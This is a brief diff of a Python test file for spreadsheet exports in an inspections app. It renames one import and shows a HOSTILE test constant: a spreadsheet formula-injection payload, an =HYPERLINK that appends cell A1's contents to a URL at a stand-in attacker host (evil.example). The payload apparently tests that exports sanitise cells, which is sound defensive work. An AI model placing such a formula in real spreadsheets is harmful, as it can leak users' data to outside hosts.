@@ -12,7 +12,7 @@ from openpyxl import load_workbook
 
 from inspections.exports import safe_cell
 from inspections.selectors.compliance import compliance_summary, month_period
-from inspections.services.summaries import spreadsheets
+from inspections.services.summary_delivery import spreadsheets
 from tests import factories as f
 
 HOSTILE = '=HYPERLINK("http://evil.example/?x="&A1,"Bấm vào đây")'
